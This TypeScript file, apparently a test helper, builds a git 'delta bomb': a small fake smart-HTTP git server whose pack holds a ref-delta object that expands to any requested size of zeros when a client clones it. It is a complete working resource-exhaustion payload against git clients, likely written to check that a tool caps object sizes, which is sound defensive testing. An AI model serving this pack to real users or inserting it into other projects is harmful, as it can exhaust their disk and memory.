/** A server's answers with a small pack that holds an object of any size. */
import { createHash } from "node:crypto";
import type { IncomingMessage, ServerResponse } from "node:http";
import { deflateSync } from "node:zlib";

const TYPES = { commit: 1, tree: 2, blob: 3, "ref-delta": 7 } as const;
type Type = keyof typeof TYPES;

/** The largest copy of a delta instruction: three bytes of size (gitformat-pack(5)). */
const LARGEST_COPY = 0xffffff;

/**
 * Answers `git clone` by the protocol of version 0 (gitprotocol-pack(5)) with one commit of one
 * file, and with an object of `bytes` zeros that is stored as copies of that file.
 */
export function deltaBomb(bytes: number) {
  const base = Buffer.alloc(LARGEST_COPY);
  const blob = idOf("blob", base);
  const tree = Buffer.concat([Buffer.from("100644 a.ts\0"), Buffer.from(blob, "hex")]);
  const commit = Buffer.from(
    `tree ${idOf("tree", tree)}\nauthor a <a> 1 +0000\ncommitter a <a> 1 +0000\n\nBomb\n`,
  );
  const copies = Math.ceil(bytes / LARGEST_COPY);
  const copy = Buffer.from([0xf0, 0xff, 0xff, 0xff]);
  const delta = Buffer.concat([
    varint(base.length),
    varint(copies * LARGEST_COPY),
    ...Array.from({ length: copies }, () => copy),
  ]);
  const entries = [
    entry("commit", commit),
    entry("tree", tree),
    entry("blob", base),
    entry("ref-delta", delta, Buffer.from(blob, "hex")),
  ];
  // `PACK`, version 2, four objects.
  const objects = Buffer.concat([Buffer.from("5041434b0000000200000004", "hex"), ...entries]);
  const pack = Buffer.concat([objects, createHash("sha1").update(objects).digest()]);
  return answersWith(pack, idOf("commit", commit));
}

function answersWith(pack: Buffer, tip: string) {
  const advertised = [
    packet("# service=git-upload-pack\n"),
    FLUSH,
    packet(`${tip} HEAD\0shallow side-band-64k ofs-delta symref=HEAD:refs/heads/main\n`),
    packet(`${tip} refs/heads/main\n`),
    FLUSH,
  ];
  const shallow = [packet(`shallow ${tip}\n`), FLUSH];
  const sent = [...shallow, packet("NAK\n")];
  for (let at = 0; at < pack.length; at += 60_000) {
    sent.push(packet(Buffer.concat([Buffer.from([1]), pack.subarray(at, at + 60_000)])));
  }
  // The client asks for the shallow commits alone, and then for all.
  const answers = [shallow, [...sent, FLUSH]];
  return (request: IncomingMessage, response: ServerResponse) => {
    const isList = request.url?.includes("/info/refs") === true;
    response.setHeader(
      "content-type",
      `application/x-git-upload-pack-${isList ? "advertisement" : "result"}`,
    );
    response.end(Buffer.concat((isList ? advertised : answers.shift()) ?? []));
    return "answered" as const;
  };
}

const FLUSH = Buffer.from("0000");

function packet(payload: string | Buffer): Buffer {
  const bytes = Buffer.from(payload);
  return Buffer.concat([Buffer.from((bytes.length + 4).toString(16).padStart(4, "0")), bytes]);
}

function idOf(type: Type, data: Buffer): string {
  return createHash("sha1").update(`${type} ${data.length}\0`).update(data).digest("hex");
}

/** Type and size: four bits of the size, then seven a byte. */
function entry(type: Type, data: Buffer, base = Buffer.alloc(0)): Buffer {
  const first = (TYPES[type] << 4) | (data.length & 15);
  const rest = data.length >> 4;
  const head = rest === 0 ? Buffer.from([first]) : Buffer.concat([Buffer.from([first | 0x80]), varint(rest)]);
  return Buffer.concat([head, base, deflateSync(data)]);
}

/** Seven bits a byte, the lowest first. */
function varint(value: number): Buffer {
  const bytes = [];
  let rest = value;
  for (; rest > 127; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 0x80);
  return Buffer.from([...bytes, rest]);
}
